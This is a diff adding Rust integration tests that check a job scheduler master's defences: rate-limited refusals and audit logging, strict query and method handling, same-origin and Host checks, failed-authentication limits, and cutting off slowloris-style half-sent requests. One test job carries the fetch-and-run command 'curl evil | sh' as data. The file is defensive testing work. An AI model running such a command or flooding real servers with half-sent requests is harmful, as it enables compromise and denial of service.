@@ -1,0 +1,196 @@
+//! The master's defences against a hostile or careless client, against a real master, etcd and
+//! `mongod`: refusals are rate-limited and kept small in the audit log, unknown query
+//! parameters and wrong methods are JSON errors, changes need the same origin, an open API
+//! answers only to loopback names, failed authentications are limited per address, and
+//! half-sent requests cannot hold the server's connections.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic on the unexpected
+
+use std::io::{Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::time::{Duration, Instant};
+
+use etcron_tests::{wait_for, Cluster};
+use reqwest::Method;
+use serde_json::{json, Value};
+
+const ADMIN: &str = "admin-token-for-tests-0123456789";
+
+async fn send(c: &Cluster, token: &str, method: Method, path: &str, headers: &[(&str, &str)]) -> (u16, Value) {
+    let mut req = reqwest::Client::new().request(method, format!("{}{path}", c.master.url)).bearer_auth(token);
+    for (k, v) in headers {
+        req = req.header(*k, *v);
+    }
+    let resp = req.send().await.unwrap();
+    let status = resp.status().as_u16();
+    (status, resp.json().await.unwrap_or(Value::Null))
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn refusals_are_limited_bounded_and_say_what_was_attempted() -> anyhow::Result<()> {
+    let out = std::process::Command::new(etcron_tests::bin("etcron-master")?)
+        .args(["hash-token", "--name", "dash", "--role", "viewer"])
+        .output()?;
+    let text = String::from_utf8(out.stdout)?;
+    let viewer = text.lines().nth(1).unwrap().trim_start_matches('#').trim().to_owned();
+    let entry: String = text.lines().filter(|l| !l.starts_with('#')).collect::<Vec<_>>().join("\n");
+    let dir = tempfile::tempdir()?;
+    let config = dir.path().join("master.toml");
+    std::fs::write(&config, entry)?;
+    let config = config.display().to_string();
+    let args = ["--config", &config, "--api-token", ADMIN, "--mutation-rate", "1", "--mutation-burst", "10"];
+    let c = Cluster::start_with("hardening-audit", 0, false, &args).await?;
+
+    // A viewer hammering a change it may not make: refused while its budget lasts, then
+    // throttled like any caller's changes, and never more than the budget reaches the log.
+    let long = format!("/api/jobs/{}", "n".repeat(60_000));
+    let client = reqwest::Client::new();
+    let (mut refused, mut throttled) = (0, 0);
+    for _ in 0..40 {
+        let resp = client
+            .put(format!("{}{long}", c.master.url))
+            .bearer_auth(&viewer)
+            .json(&json!({"schedule": "@daily", "task": {"kind": "shell", "command": "curl evil | sh",
+                "secret_env": {"K": "hunter2"}}}))
+            .send()
+            .await?;
+        match resp.status().as_u16() {
+            403 => refused += 1,
+            429 => throttled += 1,
+            other => panic!("unexpected {other}"),
+        }
+    }
+    assert!(refused <= 12 && throttled >= 28, "refused {refused}, throttled {throttled}");
+    let entries = wait_for(Duration::from_secs(30), "the refusals in the audit log", || async {
+        let v = c.call(Method::GET, "/api/audit?actor=dash", None).await.ok()?.1;
+        let e = v["entries"].as_array()?.clone();
+        (e.len() == refused).then_some(e)
+    })
+    .await?;
+    for e in &entries {
+        assert_eq!(e["status"], 403);
+        assert!(e["path"].as_str().unwrap().len() <= 260, "path kept bounded");
+        assert!(e["action"].as_str().unwrap().len() <= 270, "action kept bounded");
+        let attempted = &e["detail"]["attempted"];
+        assert_eq!(attempted["task"]["command"], "curl evil | sh", "the refusal says what was attempted: {e}");
+        assert!(!e.to_string().contains("hunter2"), "secrets withheld");
+    }
+
+    // A typo in a query parameter is an error naming it, never a wider request.
+    let (status, body) = send(&c, ADMIN, Method::POST, "/api/jobs/some-job/kill?exection=x", &[]).await;
+    assert_eq!((status, body["error"]["field"].as_str()), (400, Some("exection")), "{body}");
+    let (status, body) = send(&c, ADMIN, Method::GET, "/api/jobs?limit=3", &[]).await;
+    assert_eq!((status, body["error"]["field"].as_str()), (400, Some("limit")), "{body}");
+    // A wrong method is a JSON error too; API answers are neither sniffed nor cached.
+    let (status, body) = send(&c, ADMIN, Method::PATCH, "/api/jobs", &[]).await;
+    assert_eq!((status, body["error"]["code"].as_str()), (405, Some("method_not_allowed")), "{body}");
+    let resp = client.get(format!("{}/api/jobs", c.master.url)).bearer_auth(ADMIN).send().await?;
+    assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
+    assert_eq!(resp.headers()["cache-control"], "no-store");
+
+    // Changes need the same origin, whatever the token: a page elsewhere is refused.
+    let spec = json!({"schedule": "@daily", "task": {"kind": "shell", "command": "true"}});
+    for (header, value, field) in
+        [("Origin", "https://evil.example", "Origin"), ("Sec-Fetch-Site", "cross-site", "Sec-Fetch-Site")]
+    {
+        let resp = client
+            .put(format!("{}/api/jobs/from-elsewhere", c.master.url))
+            .bearer_auth(ADMIN)
+            .header(header, value)
+            .json(&spec)
+            .send()
+            .await?;
+        let status = resp.status().as_u16();
+        let body: Value = resp.json().await?;
+        assert_eq!((status, body["error"]["field"].as_str()), (403, Some(field)), "{body}");
+    }
+    let own = c.master.url.clone();
+    let resp = client
+        .put(format!("{own}/api/jobs/from-here"))
+        .bearer_auth(ADMIN)
+        .header("Origin", own.as_str())
+        .header("Sec-Fetch-Site", "same-origin")
+        .json(&spec)
+        .send()
+        .await?;
+    assert_eq!(resp.status().as_u16(), 201, "the console's own origin may change things");
+
+    // Wrong tokens: each is logged with its address, and after a budget the address is told to
+    // wait, whatever it sends, until the budget refills.
+    let mut statuses = Vec::new();
+    for i in 0..30 {
+        statuses.push(send(&c, &format!("wrong-token-{i:020}"), Method::GET, "/api/jobs", &[]).await.0);
+    }
+    assert!(statuses[..20].iter().all(|s| *s == 401), "{statuses:?}");
+    assert!(statuses[20..].iter().all(|s| *s == 429), "{statuses:?}");
+    assert!(c.master.proc.log_text().matches("authentication failed").count() >= 20);
+    wait_for(Duration::from_secs(10), "the address to be let in again", || async {
+        (send(&c, ADMIN, Method::GET, "/api/jobs", &[]).await.0 == 200).then_some(())
+    })
+    .await?;
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_open_api_answers_only_to_loopback_names() -> anyhow::Result<()> {
+    let c = Cluster::start("hardening-host", 0).await?;
+    let client = reqwest::Client::new();
+    let get = |host: &'static str| client.get(format!("{}/api/jobs", c.master.url)).header("Host", host).send();
+    let resp = get("evil.example:8070").await?;
+    let status = resp.status().as_u16();
+    let body: Value = resp.json().await?;
+    assert_eq!((status, body["error"]["field"].as_str()), (403, Some("Host")), "DNS rebinding: {body}");
+    assert_eq!(get("localhost").await?.status().as_u16(), 200);
+    Ok(())
+}
+
+/// Opens a connection from `from` that sends half a request and then nothing.
+fn half_request(from: &str, to: SocketAddr) -> Option<TcpStream> {
+    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).ok()?;
+    socket.bind(&from.parse::<SocketAddr>().ok()?.into()).ok()?;
+    socket.connect(&to.into()).ok()?;
+    let mut stream: TcpStream = socket.into();
+    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ").ok()?;
+    Some(stream)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn half_sent_requests_cannot_hold_the_masters_connections() -> anyhow::Result<()> {
+    let c = Cluster::start("hardening-slowloris", 0).await?;
+    let addr: SocketAddr = c.master.url.trim_start_matches("http://").parse()?;
+    // 300 half-sent requests from one address (127.0.0.2, another loopback address).
+    let mut held: Vec<TcpStream> = (0..300).filter_map(|_| half_request("127.0.0.2:0", addr)).collect();
+    assert_eq!(held.len(), 300);
+    // Another client is still served at once.
+    let health = reqwest::Client::builder().timeout(Duration::from_secs(5)).build()?;
+    assert!(health.get(format!("{}/healthz", c.master.url)).send().await?.status().is_success());
+    // The server closes every one of them: those over the per-address cap at once, the rest
+    // when their headers are overdue.
+    let started = Instant::now();
+    let mut closed_at = Vec::new();
+    for s in &held {
+        s.set_nonblocking(true)?;
+    }
+    let mut open: Vec<&mut TcpStream> = held.iter_mut().collect();
+    while !open.is_empty() && started.elapsed() < Duration::from_secs(30) {
+        open.retain_mut(|s| {
+            let mut buf = [0u8; 64];
+            let closed = match s.read(&mut buf) {
+                Ok(0) => true,
+                // An answer (a 408) may come before the close.
+                Ok(_) => false,
+                Err(e) => e.kind() != std::io::ErrorKind::WouldBlock,
+            };
+            if closed {
+                closed_at.push(started.elapsed());
+            }
+            !closed
+        });
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert!(open.is_empty(), "{} half-sent requests still open after 30 s", open.len());
+    let quickly = closed_at.iter().filter(|d| **d < Duration::from_secs(2)).count();
+    assert!(quickly >= 300 - 128, "at most 128 connections are held for one address: {quickly} closed at once");
+    assert!(closed_at.iter().all(|d| *d < Duration::from_secs(25)), "every half-sent request is cut off");
+    Ok(())
+}
